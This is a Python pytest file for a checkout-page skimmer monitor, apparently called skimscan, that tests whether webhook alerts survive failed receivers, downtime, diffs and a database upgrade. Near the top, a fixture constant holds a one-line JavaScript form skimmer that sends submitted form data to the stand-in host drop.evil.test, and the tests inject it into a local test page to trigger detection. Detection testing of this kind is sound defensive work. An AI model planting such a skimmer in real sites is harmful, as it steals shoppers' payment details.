"""Hostile input, alerts (issue: alerts are lost): a webhook that fails, a receiver that is down,
a `diff` run between two rounds, a database from before the outbox. Every alert is delivered at
least once, and the history says what was delivered and what failed.

Real pieces only: static page scans (`--no-browser`) of a shop served by this test's aiohttp
server (reached through a host map), a real SQLite file, a real webhook receiver that fails on
request.
"""

from __future__ import annotations

import asyncio
import json
import sqlite3
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import web

from skimscan.capture.hostmap import HostMap, parse_host_map
from skimscan.cli import main
from skimscan.inventory.alert import WebhookConfig
from skimscan.inventory.store import MIGRATIONS, Store
from skimscan.inventory.watch import WatchOptions, run_round
from skimscan.pipeline import Engine
from skimscan.scanner import ScanOptions

PAGE = "http://shop.test/checkout"
APP = "(function () { var total = 0; window.addTotal = function (n) { total += n; }; })();\n"
SKIMMER = ("document.addEventListener('submit', function (e) {"
           " navigator.sendBeacon('https://drop.evil.test/c', new FormData(e.target)); });\n")


@dataclass
class Shop:
    """The checkout page, its script (editable) and a webhook receiver (answers on demand)."""

    app: str = APP
    answers: list[int] = field(default_factory=list)  # next webhook answers; 200 when empty
    received: list[dict[str, Any]] = field(default_factory=list)  # accepted alerts
    rejected: int = 0
    port: int = 0

    async def page(self, request: web.Request) -> web.Response:
        return web.Response(text='<!doctype html><html><body><form id="pay"><input name="cc">'
                                 '</form><script src="/app.js?v=1"></script></body></html>',
                            content_type="text/html")

    async def script(self, request: web.Request) -> web.Response:
        return web.Response(text=self.app, content_type="application/javascript")

    async def hook(self, request: web.Request) -> web.Response:
        body = await request.read()
        status = self.answers.pop(0) if self.answers else 200
        if status == 200:
            self.received.append(json.loads(body))
        else:
            self.rejected += 1
        return web.Response(status=status)

    @property
    def hook_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/hook"

    def argv(self, db: Path, *extra: str) -> list[str]:
        return ["--db", str(db), "--no-browser", "--no-cache", "--map-host",
                f"shop.test=127.0.0.1:{self.port}", *extra]


@pytest_asyncio.fixture
async def shop() -> AsyncIterator[Shop]:
    state = Shop()
    app = web.Application()
    app.router.add_get("/checkout", state.page)
    app.router.add_get("/app.js", state.script)
    app.router.add_post("/hook", state.hook)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    state.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    try:
        yield state
    finally:
        await runner.cleanup()


async def cli(argv: list[str]) -> int:
    """`skimscan …` in a thread, so that this loop's servers keep answering."""
    return await asyncio.to_thread(main, argv)


async def history(db: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    capsys.readouterr()
    assert await cli(["history", "--db", str(db), "-f", "json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert isinstance(data, dict)
    return data


def deliveries(data: dict[str, Any]) -> dict[int, set[tuple[str, str]]]:
    """Per scan: the (alerted, delivery) pairs of its changes."""
    changes = data["changes"]
    assert isinstance(changes, list)
    out: dict[int, set[tuple[str, str]]] = {}
    for c in changes:
        out.setdefault(c["scan_id"], set()).add((c["alerted"], c["delivery"]))
    return out


def kinds(data: dict[str, Any], scan_id: int) -> set[str]:
    changes = data["changes"]
    assert isinstance(changes, list)
    return {c["kind"] for c in changes if c["scan_id"] == scan_id}


def texts(received: list[dict[str, Any]]) -> str:
    return "\n".join(str(r["text"]) for r in received)


async def test_a_failed_webhook_is_sent_again_by_the_next_watch_once(
        shop: Shop, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "watch.db"
    watch = ["watch", "--once", PAGE, "--webhook", shop.hook_url]
    assert await cli([*watch, *shop.argv(db)]) == 0  # first scan: the baseline, nothing to say
    shop.app = APP + SKIMMER
    shop.answers = [404]  # the receiver rejects the alert (misconfigured for a while)
    assert await cli([*watch, *shop.argv(db)]) == 1
    assert shop.rejected == 1 and shop.received == []
    data = await history(db, capsys)
    assert deliveries(data) == {2: {("failed", "failed")}}  # the skimmer: changed script, findings
    assert "changed-script" in kinds(data, 2)
    assert [d["ok"] for d in data["deliveries"]] == [False]

    # Nothing new on the page, but the alert was never delivered: this run sends it.
    assert await cli([*watch, *shop.argv(db)]) == 1
    [alert] = shop.received
    assert "drop.evil.test" in texts(shop.received)
    [page] = alert["pages"]
    assert page["scan_id"] == 2 and {c["kind"] for c in page["changes"]} == kinds(data, 2)
    data = await history(db, capsys)
    assert deliveries(data) == {2: {("delivered", "delivered")}, 3: {("no", "")}}
    assert [d["ok"] for d in data["deliveries"]] == [False, True]
    capsys.readouterr()
    assert await cli(["history", "--db", str(db)]) == 0
    md = capsys.readouterr().out
    assert "| failed |" in md and "| delivered |" in md

    # Delivered once: quiet from now on.
    assert await cli([*watch, *shop.argv(db)]) == 0
    assert len(shop.received) == 1


async def test_an_unreachable_receiver_loses_nothing(shop: Shop, tmp_path: Path,
                                                     engine: Engine) -> None:
    db = tmp_path / "down.db"
    scan = ScanOptions(no_browser=True, host_map=_host_map(shop))
    down = WebhookConfig("http://127.0.0.1:9/hook", attempts=1, timeout=2)
    up = WebhookConfig(shop.hook_url, attempts=1)

    async def round_(webhook: WebhookConfig) -> int:
        options = WatchOptions(pages=(PAGE,), db=str(db), once=True, webhook=webhook)
        return (await run_round(options, scan, lambda: engine, log=lambda line: None)).exit_code

    assert await round_(down) == 0
    shop.app = APP + SKIMMER
    assert await round_(down) == 1  # raised, not delivered: the receiver is down
    assert await round_(down) == 1  # still down: raised again, still queued
    assert shop.received == []
    assert await round_(up) == 1  # back up: the alert arrives, once
    assert len(shop.received) == 1 and "drop.evil.test" in texts(shop.received)
    assert await round_(up) == 0
    with Store.open(db) as store:
        assert [a.ok for a in store.alerts()] == [False, False, True]
        assert {(c.scan_id, c.delivery) for c in store.changes() if c.alerted} == {
            (2, "delivered")}
        assert store.queued_alerts() == []


async def test_a_diff_between_two_rounds_does_not_swallow_the_alert(
        shop: Shop, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "diff.db"
    watch = ["watch", "--once", PAGE, "--webhook", shop.hook_url]
    assert await cli([*watch, *shop.argv(db)]) == 0
    shop.app = APP + SKIMMER
    assert await cli(["diff", PAGE, *shop.argv(db)]) == 1  # a person looks first ...
    assert "drop.evil.test" in capsys.readouterr().out
    assert await cli([*watch, *shop.argv(db)]) == 1  # ... the watcher still alerts the team
    assert len(shop.received) == 1 and "drop.evil.test" in texts(shop.received)


async def test_alerts_lost_before_the_outbox_are_sent_after_the_upgrade(
        shop: Shop, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A schema-2 database whose last alert failed (the change marked alerted anyway): after the
    upgrade the history says 'failed', and the next round delivers it."""
    db = tmp_path / "old.db"
    con = sqlite3.connect(db, isolation_level=None)
    for migration in MIGRATIONS[:2]:
        assert isinstance(migration, str)
        con.executescript(migration)
    con.execute("PRAGMA user_version = 2")
    t = "2026-01-05T03:00:00.000Z"
    con.execute("INSERT INTO targets (id, url, created_at) VALUES (1, ?, ?)", (PAGE, t))
    con.execute("INSERT INTO scans (id, target_id, started_at, finished_at, status, tool_version, "
                "rules_version) VALUES (7, 1, ?, ?, 'complete', '0.1.0', 'r')", (t, t))
    con.execute("INSERT INTO changes (scan_id, target_id, kind, subject, after, detail, "
                "fingerprint, alerted, created_at) VALUES (7, 1, 'new-host', 'drop.evil.test', "
                "'unknown', 'requests: xhr', 'fp-old', 1, ?)", (t,))
    con.execute("INSERT INTO alerts (created_at, channel, destination, ok, attempts, http_status, "
                "error, scan_ids, changes) VALUES (?, 'webhook', 'https://h/…', 0, 4, 503, "
                "'HTTP 503', '[7]', 1)", (t,))
    con.close()
    data = await history(db, capsys)
    assert deliveries(data) == {7: {("failed", "failed")}}
    assert await cli(["watch", "--once", PAGE, "--webhook", shop.hook_url, *shop.argv(db)]) == 1
    [alert] = shop.received
    [page] = alert["pages"]
    assert page["scan_id"] == 7 and page["detected_at"] == t
    assert [c["subject"] for c in page["changes"]] == ["drop.evil.test"]
    data = await history(db, capsys)
    assert deliveries(data) == {7: {("delivered", "delivered")}}


def _host_map(shop: Shop) -> HostMap:
    return parse_host_map([f"shop.test=127.0.0.1:{shop.port}"])
